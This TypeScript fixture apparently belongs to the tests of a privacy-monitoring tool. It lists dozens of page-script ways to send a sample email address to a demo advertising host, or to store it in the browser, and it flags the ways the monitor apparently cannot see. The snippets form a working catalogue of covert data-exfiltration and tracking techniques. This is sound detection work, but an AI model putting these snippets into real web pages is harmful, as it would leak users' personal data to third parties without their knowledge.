import { PARTIES } from '../../demo/hosts'
import type { CannotBeSeen } from '../../lib/lists/cannot-be-seen'

/** The ways for data to leave a page, or to be kept by it, as scripts of the page (docs/cannot-be-seen.md lists them). */

export const EMAIL = 'ottoline.fairweather@mail.example'
export const HOST = PARTIES.advertising

/** Page script that sends `EMAIL` to `URL`, by the name of the way. */
export const WAYS: Readonly<Record<string, string>> = {
  'fetch, text': `fetch(URL, { method: 'POST', body: EMAIL })`,
  'fetch, URLSearchParams': `fetch(URL, { method: 'POST', body: new URLSearchParams({ em: EMAIL }) })`,
  'fetch, FormData': `fetch(URL, { method: 'POST', body: form({ em: EMAIL }) })`,
  'fetch, the content of a file': `fetch(URL, { method: 'POST', body: form({ file: new File([JSON.stringify({ em: EMAIL })], 'a.json') }) })`,
  'fetch, Blob': `fetch(URL, { method: 'POST', body: new Blob([JSON.stringify({ em: EMAIL })]) })`,
  'fetch, ArrayBuffer': `fetch(URL, { method: 'POST', body: new TextEncoder().encode(EMAIL).buffer })`,
  'fetch, typed array': `fetch(URL, { method: 'POST', body: new TextEncoder().encode(EMAIL) })`,
  'fetch, UTF-16': `fetch(URL, { method: 'POST', body: Uint16Array.from(EMAIL, letter => letter.charCodeAt(0)) })`,
  'fetch, Request object': `fetch(new Request(URL, { method: 'POST', body: EMAIL }))`,
  'fetch, Request object with a Blob': `fetch(new Request(URL, { method: 'POST', body: new Blob([EMAIL]) }))`,
  'fetch, JSON': `fetch(URL, { method: 'POST', body: JSON.stringify({ em: EMAIL }), headers: { 'content-type': 'application/json' } })`,
  'fetch, Request object with a file': `fetch(new Request(URL, { method: 'POST', body: form({ file: new File([EMAIL], 'a.txt') }) }))`,
  'fetch, DELETE': `fetch(URL, { method: 'DELETE', body: JSON.stringify({ em: EMAIL }) })`,
  'fetch, a body of 1 MiB': `fetch(URL, { method: 'POST', body: JSON.stringify({ em: EMAIL, rest: 'x'.repeat(2 ** 20) }) })`,
  'fetch, keepalive': `fetch(URL, { method: 'POST', body: EMAIL, keepalive: true })`,
  'fetch, header': `fetch(URL, { headers: { 'x-user': EMAIL } })`,
  'fetch, query': `fetch(URL + '?em=' + encodeURIComponent(EMAIL))`,
  'XHR, text': `xhr(EMAIL)`,
  'XHR, URLSearchParams': `xhr(new URLSearchParams({ em: EMAIL }))`,
  'XHR, Blob': `xhr(new Blob([JSON.stringify({ em: EMAIL })]))`,
  'XHR, FormData': `xhr(form({ em: EMAIL }))`,
  'beacon, text': `navigator.sendBeacon(URL, EMAIL)`,
  'beacon, URLSearchParams': `navigator.sendBeacon(URL, new URLSearchParams({ em: EMAIL }))`,
  'beacon, Blob': `navigator.sendBeacon(URL, new Blob([JSON.stringify({ em: EMAIL })], { type: 'text/plain' }))`,
  'beacon, FormData': `navigator.sendBeacon(URL, form({ em: EMAIL }))`,
  'image address': `new Image().src = URL + '?em=' + EMAIL`,
  'script address': `add('script', { src: URL + '?em=' + EMAIL })`,
  'stylesheet address': `add('link', { rel: 'stylesheet', href: URL + '?em=' + EMAIL })`,
  prefetch: `add('link', { rel: 'prefetch', href: URL + '?em=' + EMAIL })`,
  EventSource: `new EventSource(URL + '?em=' + EMAIL)`,
  'dynamic import': `void import(URL + '?em=' + EMAIL).catch(() => {})`,
  'form in a frame, urlencoded': `frameForm('application/x-www-form-urlencoded', 'post')`,
  'form in a frame, multipart': `frameForm('multipart/form-data', 'post')`,
  'form in a frame, multipart with a file': `frameForm('multipart/form-data', 'post', form => form.append(fileOf('a.txt')))`,
  'form in a frame, by submit()': `frameForm('', 'post', form => { form.requestSubmit = () => HTMLFormElement.prototype.submit.call(form) })`,
  'form in a frame, text': `frameForm('text/plain', 'post')`,
  'form in a frame, GET': `frameForm('', 'get')`,
  'WebSocket, text': `socket(EMAIL)`,
  'WebSocket, bytes': `socket(new TextEncoder().encode(EMAIL))`,
  'WebSocket, Blob': `socket(new Blob([EMAIL]))`,
  'WebSocket, what becomes text': `socket({ toString: () => EMAIL })`,
  'WebSocket, why it is closed': `socketOpen(one => one.close(3001, EMAIL))`,
  'worker, fetch': `new Worker(window.URL.createObjectURL(new Blob(["fetch('" + URL + "', { method: 'POST', body: '" + EMAIL + "' })"])))`,
  'about:blank frame, at once': `add('iframe', {}).contentWindow.fetch(URL, { method: 'POST', body: EMAIL })`,
  'about:blank frame, Blob': `add('iframe', {}).contentWindow.navigator.sendBeacon(URL, new Blob([JSON.stringify({ em: EMAIL })]))`,
  'srcdoc frame': `add('iframe', { srcdoc: inline })`,
  'data: frame': `add('iframe', { src: 'data:text/html,' + encodeURIComponent(inline) })`,
  'sandboxed frame': `add('iframe', { sandbox: 'allow-scripts', srcdoc: inline })`,
  'data channel': `dataChannel('', EMAIL)`,
  'data channel, its protocol': `dataChannel(EMAIL, 'sent')`,
  'XHR, at once': `xhr(EMAIL, false)`,
  preload: `add('link', { rel: 'preload', as: 'fetch', crossOrigin: 'anonymous', href: URL + '?em=' + EMAIL })`,
  'poster address': `add('video', { poster: URL + '?em=' + EMAIL })`,
  'background image': `add('i', {}).style.background = 'url("' + URL + '?em=' + EMAIL + '")'`,
  'font address': `add('style', { textContent: '@font-face { font-family: told; src: url("' + URL + '?em=' + EMAIL + '") }' }), add('i', { textContent: 'a' }).style.fontFamily = 'told'`,
  'imported style': `add('style', { textContent: '@import url("' + URL + '?em=' + EMAIL + '")' })`,
  'WebSocket address': `new WebSocket(URL.replace('https', 'wss') + '?em=' + EMAIL)`,
  'blob: frame': `add('iframe', { src: window.URL.createObjectURL(new Blob([inline], { type: 'text/html' })) })`,
  'service worker, fetch': `serviceWorker()`,
  'shared worker, fetch': `new SharedWorker(window.URL.createObjectURL(new Blob([post])))`,
  'report-uri': `add('iframe', { src: '/report-uri?em=' + EMAIL })`,
  'a message to a frame of another origin, which sends it on': `add('iframe', {
    sandbox: 'allow-scripts',
    srcdoc: '<script>onmessage = event => fetch("' + URL + '", { method: "POST", mode: "no-cors", body: event.data })</' + 'script>',
    onload() { this.contentWindow.postMessage(EMAIL, '*') },
  })`,
}

/** Ways that only Chromium has, or has not switched off. */
export const OF_CHROMIUM: Readonly<Record<string, string>> = {
  'fetch, stream': `void fetch(URL, { method: 'POST', duplex: 'half', body: new Blob([EMAIL]).stream() }).catch(() => {})`,
  'fetch, stream of the page’s own': `void fetch(URL, { method: 'POST', duplex: 'half', body: new ReadableStream({ start(to) { for (const part of ['{"em":"', EMAIL, '"}']) to.enqueue(new TextEncoder().encode(part)); to.close() } }) }).catch(() => {})`,
  'fetchLater, Blob': `fetchLater(URL, { method: 'POST', body: new Blob([EMAIL]), activateAfter: 0 })`,
  fetchLater: `fetchLater(URL, { method: 'POST', body: EMAIL, activateAfter: 0 })`,
  'a page rendered ahead': `add('script', { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ urls: [new window.URL(URL).pathname + '?em=' + EMAIL] }] }) })`,
  'a ping': `add('a', { href: '#', ping: URL + '?em=' + EMAIL }).click()`,
}

/** What reaches the server although nobody shows it to us. */
export const UNSEEN: Readonly<Partial<Record<CannotBeSeen, string>>> = {
  'worker-socket': `new Worker(window.URL.createObjectURL(new Blob(["const one = new WebSocket('" + URL.replace('https', 'wss') + "'); one.onopen = () => one.send('" + EMAIL + "')"])))`,
  'worker-blob': `new Worker(window.URL.createObjectURL(new Blob(["fetch('" + URL + "', { method: 'POST', body: new Blob(['" + EMAIL + "']) })"])))`,
  'worker-stream': `new Worker(window.URL.createObjectURL(new Blob(["fetch('" + URL + "', { method: 'POST', duplex: 'half', body: new Blob(['" + EMAIL + "']).stream() })"])))`,
  'report-to': `add('iframe', { src: '/report-to?em=' + EMAIL })`,
  'worker-file': `new Worker(window.URL.createObjectURL(new Blob(["const form = new FormData(); form.append('file', new File(['" + EMAIL + "'], 'a.txt')); fetch('" + URL + "', { method: 'POST', body: form })"])))`,
  'odd-blob': `fetch(URL, { get method() { return 'POST' }, get body() { return new Blob([EMAIL]) } })`,
  'data-frame': `add('iframe', { src: 'data:text/html,' + encodeURIComponent('<script>const one = new WebSocket("' + URL.replace('https', 'wss') + '"); one.onopen = () => one.send("' + EMAIL + '")</' + 'script>') })`,
  'empty-frame-socket': `socketOpen(one => one.send(EMAIL), add('iframe', { src: '/late' }).contentWindow.WebSocket)`,
  'empty-frame-blob': `add('iframe', { src: '/style.css' }).contentWindow.navigator.sendBeacon(URL, new Blob([EMAIL]))`,
}

/** … that only Chromium has. */
export const UNSEEN_OF_CHROMIUM: Readonly<Partial<Record<CannotBeSeen, string>>> = {
  'socket-stream': `new WebSocketStream(URL.replace('https', 'wss')).opened.then(({ writable }) => writable.getWriter().write(EMAIL))`,
  'browser-asks': `void new PaymentRequest([{ supportedMethods: URL + '?em=' + EMAIL }], { total: { label: 'all', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
}

/** Page script that sends `EMAIL` to `URL` as the page is left: at `pagehide`, where the name says nothing else. */
export const LEAVING: Readonly<Record<string, string>> = {
  'beacon, text': `navigator.sendBeacon(URL, EMAIL)`,
  'beacon, Blob': `navigator.sendBeacon(URL, new Blob([JSON.stringify({ em: EMAIL })], { type: 'text/plain' }))`,
  'beacon, Blob of bytes': `navigator.sendBeacon(URL, new Blob([new TextEncoder().encode(EMAIL)]))`,
  'beacon, Blob of parts': `navigator.sendBeacon(URL, new Blob(['{"em":', new TextEncoder().encode('"' + EMAIL), new Blob(['"}'])]))`,
  'beacon, File': `navigator.sendBeacon(URL, new File([EMAIL], 'a.txt'))`,
  'beacon, FormData': `navigator.sendBeacon(URL, form({ em: EMAIL }))`,
  'fetch, Request object': `fetch(new Request(URL, { method: 'POST', body: EMAIL, keepalive: true }))`,
  'fetch, Request object, at beforeunload': `fetch(new Request(URL, { method: 'POST', body: EMAIL, keepalive: true }))`,
  'fetch, keepalive': `fetch(URL, { method: 'POST', body: EMAIL, keepalive: true })`,
  'fetch, keepalive, Blob': `fetch(URL, { method: 'POST', body: new Blob([EMAIL]), keepalive: true })`,
  'image address': `new Image().src = URL + '?em=' + EMAIL`,
}

/** … and what is not seen then, and holds up nothing else. */
export const LEAVING_UNSEEN = {
  'late-blob': `navigator.sendBeacon(URL, form({ em: new Blob([EMAIL]) }))`,
} as const satisfies Partial<Record<CannotBeSeen, string>>

/** Page script that puts `EMAIL` where it stays in the browser, by where it is then found. */
export const KEPT: Readonly<Record<string, readonly [where: string, script: string]>> = {
  'localStorage.setItem': ['storage.local.who', `localStorage.setItem('who', EMAIL)`],
  'sessionStorage.setItem, in JSON': [
    'storage.session.form.em',
    `sessionStorage.setItem('form', JSON.stringify({ em: EMAIL }))`,
  ],
  'a property of localStorage': ['storage.local.assigned', `localStorage.assigned = EMAIL`],
  'document.cookie': ['storage.cookie.crumb', `document.cookie = 'crumb=' + EMAIL + '; path=/elsewhere'`],
  'cookieStore.set': [
    'storage.cookie.jar',
    `globalThis.cookieStore?.set({ name: 'jar', value: EMAIL, path: '/elsewhere/' })`,
  ],
  IndexedDB: [
    'storage.indexeddb.people.em',
    `{
    const opening = indexedDB.open('kept', 1)
    opening.onupgradeneeded = () => opening.result.createObjectStore('people', { autoIncrement: true })
    opening.onsuccess = () => { opening.result.transaction('people', 'readwrite').objectStore('people').put({ em: EMAIL }); opening.result.close() }
  }`,
  ],
  'window.name': ['storage.window.name', `window.name = EMAIL`],
  'the history’s state': ['storage.history.state.em', `history.replaceState({ em: EMAIL }, '')`],
  'the address’s fragment': ['url.fragment.em', `location.hash = 'em=' + EMAIL`],
  'the address': ['url.query.em', `history.pushState(null, '', '?em=' + EMAIL)`],
}

/** What the scripts above use; `path` is an address of the way's own, so that all can be gone at once. */
export const tools = (path: string): string => `
  const EMAIL = '${EMAIL}', URL = 'https://${HOST}${path}'
  const form = values => { const data = new FormData(); for (const [name, value] of Object.entries(values)) data.append(name, value); return data }
  const add = (tag, attributes) => { const element = Object.assign(document.createElement(tag), attributes); document.body.append(element); return element }
  const xhr = (body, later = true) => { const request = new XMLHttpRequest(); request.open('POST', URL, later); request.send(body) }
  const post = "fetch('" + URL + "', { method: 'POST', body: '" + EMAIL + "' })"
  const inline = '<script>fetch("' + URL + '", { method: "POST", mode: "no-cors", body: "' + EMAIL + '" })</' + 'script>'
  const socketOpen = (use, Socket = WebSocket) => { const one = new Socket(URL.replace('https', 'wss')); one.onopen = () => use(one) }
  const socket = data => socketOpen(one => one.send(data))
  const fileOf = name => {
    const file = Object.assign(document.createElement('input'), { type: 'file', name: 'file' })
    const chosen = new DataTransfer()
    chosen.items.add(new File(['of the file'], name))
    file.files = chosen.files
    return file
  }
  const serviceWorker = async () => {
    await navigator.serviceWorker.register('/worker.js')
    const { active } = await navigator.serviceWorker.ready
    active.postMessage([URL, EMAIL])
  }
  const frameForm = (enctype, method, change = () => {}) => {
    add('iframe', { name: 'target' + URL })
    const sent = add('form', { action: URL, method, enctype, target: 'target' + URL })
    sent.innerHTML = '<input name="em" value="' + EMAIL + '">'
    change(sent)
    sent.requestSubmit()
  }
  const dataChannel = async (protocol, data) => {
    const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()]
    a.onicecandidate = event => event.candidate && b.addIceCandidate(event.candidate)
    b.onicecandidate = event => event.candidate && a.addIceCandidate(event.candidate)
    const channel = a.createDataChannel('${path.slice(1)}', { protocol })
    channel.onopen = () => channel.send(data)
    await a.setLocalDescription(); await b.setRemoteDescription(a.localDescription)
    await b.setLocalDescription(); await a.setRemoteDescription(b.localDescription)
  }`
